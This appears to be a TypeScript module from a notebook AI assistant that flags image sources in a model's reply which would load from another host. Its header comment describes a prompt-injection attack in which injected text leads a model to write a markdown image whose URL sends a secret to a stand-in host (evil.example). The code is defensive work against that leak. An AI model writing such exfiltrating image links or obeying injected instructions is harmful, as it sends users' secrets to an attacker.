/**
 * Which image sources in a reply would load from another host by themselves.
 *
 * A model steered by injected text (a doc, an output, a web page) can write an image whose
 * URL carries data out (`![](https://evil.example/?q=<secret>)`): rendering the reply would
 * send it. Images from the notebook's own server and inline images send nothing anywhere.
 */

/**
 * Whether an image source points at another host.
 *
 * @param src - The `src` (or one `srcset` candidate's URL) as written.
 * @param origin - The page's origin (`location.origin`): the Jupyter server.
 * @returns True for absolute http(s) or protocol-relative URLs of another origin, and for
 *   any scheme that is not known to stay local.
 */
export function isRemoteSource(src: string, origin: string): boolean {
  const s = src.trim();
  if (!s) {
    return false;
  }
  if (/^(data|blob|attachment):/i.test(s)) {
    return false;
  }
  let url: URL;
  try {
    url = new URL(s, `${origin}/`);
  } catch {
    return true; // what cannot be parsed cannot be shown to be local
  }
  if (!/^https?:$/.test(url.protocol)) {
    return true;
  }
  return url.origin !== origin;
}

/**
 * The URLs of a `srcset` attribute (`a.png 1x, b.png 2x`).
 *
 * @param srcset - The attribute's value.
 */
export function srcsetURLs(srcset: string): string[] {
  return srcset
    .split(',')
    .map(candidate => candidate.trim().split(/\s+/)[0])
    .filter(url => url);
}
